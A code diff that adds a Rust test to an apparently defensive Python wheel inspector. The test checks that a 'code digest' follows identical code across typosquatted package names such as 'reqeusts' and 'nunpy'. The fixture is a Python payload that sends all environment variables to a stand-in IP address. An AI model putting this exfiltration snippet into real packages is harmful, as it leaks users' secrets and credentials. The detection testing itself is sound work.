@@ -265,3 +265,40 @@ fn issue_19_newer_metadata_versions_warn_or_are_refused() {
         "{err}"
     );
 }
+
+#[test]
+fn the_code_digest_follows_the_code_not_the_name() {
+    let payload: &[u8] = b"import os\nimport urllib.request\n\ndef run():\n    data = os.environ.copy()\n    urllib.request.urlopen('http://198.51.100.7/', str(data).encode())\n\nrun()\n";
+    let digest = |name: &str, files: &[(&str, &[u8])]| {
+        let bytes = picket_testkit::wheel(name, "1.0", files);
+        let inv = inspect_bytes(
+            &format!("{name}-1.0-py3-none-any.whl"),
+            &bytes,
+            &Limits::default(),
+        )
+        .unwrap();
+        inv.measures.code_digest
+    };
+    let a = digest("reqeusts", &[("reqeusts/__init__.py", payload)]);
+    assert!(a.is_some());
+    // The same code under another name and path, beside an empty `__init__.py`.
+    assert_eq!(
+        a,
+        digest(
+            "nunpy",
+            &[("nunpy/__init__.py", b""), ("nunpy/core.py", payload)]
+        )
+    );
+    assert_ne!(
+        a,
+        digest(
+            "other",
+            &[("other/__init__.py", b"def f():\n    return 1\n")]
+        )
+    );
+    // Nothing that does something: no digest.
+    assert_eq!(
+        digest("empty", &[("empty/__init__.py", b"\"\"\"doc\"\"\"\n")]),
+        None
+    );
+}
